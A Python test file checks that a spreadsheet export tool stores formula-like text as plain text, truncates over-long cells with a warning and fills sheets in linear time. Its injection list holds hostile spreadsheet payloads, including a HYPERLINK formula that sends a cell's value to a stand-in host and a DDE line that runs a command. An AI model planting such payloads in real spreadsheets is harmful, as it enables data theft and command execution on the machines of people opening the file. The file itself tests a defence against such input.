"""Spreadsheet cells are data (issue 27): text that starts like a formula is written as text in
every workbook ankao makes, text beyond Excel's 32,767 characters is cut with a note and a
warning, and filling a sheet stays linear in its rows."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from conftest import copy_examples

from hostile.bounded import run_bounded
from hostile.round3 import BOOK, only_written, tree_state

INJECTIONS = [
    '=HYPERLINK("http://例子.invalid/?"&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]

# (where in the book, the text before, replaced by injection number i)
PLACES = [
    (
        "content: 落实党委理论学习中心组学习制度，围绕习近平新时代中国特色社会主义思想开展专题学习",
        "content: {}",
    ),
    (
        "content: 落实全面从严治党主体责任，签订党风廉政建设责任书，确保不发生违纪违法案件",
        "content: {}",
    ),
    (
        "content: 开展“走进课堂、走近学生”作风建设专项行动，班子成员每学期听课、联系学生宿舍",
        "content: {}",
    ),
    (
        "content: 推进“双带头人”教师党支部书记工作室建设，创建省级党建工作样板支部",
        "content: {}",
    ),
    ("content: 做好在高知识群体中发展党员工作，任期内在青年教师中发展党员", "content: {}"),
    ("content: 在教学、科研和学生管理一线设立党员先锋岗，发挥党员教师示范带头作用", "content: {}"),
    ("content: 选树和宣传师德标兵、优秀共产党员等先进典型", "content: {}"),
]

WORKBOOKS = [
    ["summary", "-o", "汇总.xlsx"],
    ["assess", "--all", "-o", "汇总.xlsx"],
    ["assess", "文学院", "-o", "汇总.xlsx"],
]


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


@pytest.fixture
def injected(tmp_path: Path) -> Path:
    repo = copy_examples(tmp_path)
    book = repo / BOOK
    text = book.read_text(encoding="utf-8")
    for (old, new), payload in zip(PLACES, INJECTIONS, strict=True):
        assert old in text
        text = text.replace(old, new.format(_quoted(payload)), 1)
    book.write_text(text, encoding="utf-8")
    return repo


def _cells(path: Path) -> list[object]:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.mark.parametrize("args", WORKBOOKS, ids=[" ".join(a[:2]) for a in WORKBOOKS])
def test_formula_text_written_as_text(injected: Path, tmp_path: Path, args: list[str]) -> None:
    before = tree_state(tmp_path)
    done = run_bounded(args, injected)
    assert done.returncode in (0, 1), done.stderr
    only_written(before, tree_state(tmp_path), "repo/汇总.xlsx")
    out = injected / "汇总.xlsx"
    _no_formula(out)
    found = {}
    for cell in _cells(out):
        value = cell.value  # type: ignore[attr-defined]
        if isinstance(value, str) and value in INJECTIONS:
            assert cell.data_type == "s", value  # type: ignore[attr-defined]
            assert cell.quotePrefix, value  # type: ignore[attr-defined]
            found[value] = True
    assert set(found) == set(INJECTIONS)


@pytest.mark.parametrize("args", WORKBOOKS[:2], ids=["summary", "assess --all"])
def test_text_over_excel_cell_limit_cut_with_note_and_warning(
    tmp_path: Path, args: list[str]
) -> None:
    repo = copy_examples(tmp_path)
    book = repo / BOOK
    long = "长" * 40_000
    old = PLACES[0][0]
    book.write_text(
        book.read_text(encoding="utf-8").replace(old, f"content: {long}", 1), encoding="utf-8"
    )
    done = run_bounded(args, repo)
    assert done.returncode in (0, 1), done.stderr
    assert "超过 Excel 的上限 32,767 个字符，已截断" in done.stdout
    cut = [
        c.value  # type: ignore[attr-defined]
        for c in _cells(repo / "汇总.xlsx")
        if isinstance(c.value, str) and c.value.startswith("长长长")  # type: ignore[attr-defined]
    ]
    assert cut and all(len(v) <= 32_767 and v.endswith("以下已截去）") for v in cut)


def test_table_sheet_is_linear(monkeypatch: pytest.MonkeyPatch) -> None:
    """`summary -o` was quadratic: the sheet's size was measured again for every row."""
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    from ankao.model.book import Number
    from ankao.render.xlsx import table_sheet

    calls = {"n": 0}
    for name in ("max_row", "max_column"):
        original = getattr(Worksheet, name)

        def counted(self: Worksheet, _original: property = original) -> int:
            calls["n"] += 1
            return _original.fget(self)  # type: ignore[no-any-return]

        monkeypatch.setattr(Worksheet, name, property(counted))
    wb = Workbook()
    rows = [[f"单位{i}", Number(i, str(i)), Number(i / 3, "0.33"), "=1"] for i in range(2000)]
    table_sheet(wb.active, ["单位", "数", "小数", "文字"], rows)
    assert calls["n"] <= 5
    assert wb.active.cell(2001, 1).value == "单位1999"
    assert wb.active.cell(2001, 3).number_format == "0.00"
    assert wb.active.cell(2001, 1).alignment.wrap_text
